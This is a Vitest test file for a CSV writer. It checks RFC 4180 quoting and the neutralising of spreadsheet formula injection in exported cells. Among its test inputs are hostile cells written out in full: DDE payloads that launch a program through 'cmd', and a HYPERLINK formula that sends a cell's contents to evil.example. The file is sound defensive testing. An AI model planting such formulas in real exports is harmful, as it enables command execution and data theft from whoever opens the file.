import { describe, expect, it } from 'vitest';
import { parseCsv } from '../test/csv-parse';
import { CSV_BOM, csvField, csvRow } from './csv';

describe('csv', () => {
  it('quotes only what RFC 4180 requires, doubling quotes', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('carriage\rreturn')).toBe('"carriage\rreturn"');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(42)).toBe('42');
    expect(csvField(true)).toBe('true');
  });

  it('neutralises cells a spreadsheet would run as a formula (OWASP)', () => {
    expect(csvField("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-2')).toBe("'-2");
    expect(csvField('@x')).toBe("'@x");
    expect(csvField('\tTab')).toBe("'\tTab");
    // A leading CR both neutralises and needs quotes: the quote mark sits inside the quoted field.
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    // Only the first character counts; numbers are ours, never user text.
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-3)).toBe('-3');
  });

  it('quotes a semicolon, the separator of spreadsheets in many locales (issue 46)', () => {
    expect(csvField('Cash flow; Rising costs')).toBe('"Cash flow; Rising costs"');
    expect(csvField(';')).toBe('";"');
    // A row with one: each cell stays one cell whether the reader splits on commas or on semicolons.
    const row = csvRow(['a;b', 'c', 'd;"e"']);
    expect(row).toBe('"a;b",c,"d;""e"""\r\n');
    expect(parseCsv(row)).toEqual([['a;b', 'c', 'd;"e"']]);
  });

  it.each([
    ['=1+1', "'=1+1"],
    [' =1+1', "' =1+1"],
    ['   +49 30 1234', "'   +49 30 1234"],
    ['\u00a0@SUM(A1:A9)', "'\u00a0@SUM(A1:A9)"],
    ['\u3000-2+3', "'\u3000-2+3"],
    [' \t=1', "' \t=1"],
    [
      '=HYPERLINK("http://evil.example/?"&A1;"click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1;""click"")"`,
    ],
    ["@cmd|' /C calc'!A0", "'@cmd|' /C calc'!A0"],
    ['-', "'-"],
    ['\0=1', "'\0=1"],
    ['\r\n=1', `"'\r\n=1"`],
  ])('neutralises the hostile cell %j, leading spaces or not', (hostile, written) => {
    expect(csvField(hostile)).toBe(written);
    // Read back, the cell is the text with its leading quote: a spreadsheet shows it, never runs it.
    expect(parseCsv(csvRow([hostile]))).toEqual([[`'${hostile}`]]);
  });

  it('leaves harmless text and our own numbers as they are', () => {
    expect(csvField('a = b')).toBe('a = b');
    expect(csvField('  plain')).toBe('  plain');
    expect(csvField('x-1')).toBe('x-1');
    expect(csvField(-3)).toBe('-3');
    expect(csvField(false)).toBe('false');
    expect(csvField(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
  });

  it('writes records that read back to the same values, emoji and non-ASCII as they are', () => {
    const values = ['Zoë 🚀', 'a,b', '"quoted"', 'multi\r\nline', "'already", 'naïve — ok', ''];
    const text = csvRow(values) + csvRow(['x', 'y']);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsv(text)).toEqual([values, ['x', 'y']]);
    expect(CSV_BOM).toBe('\uFEFF');
  });
});
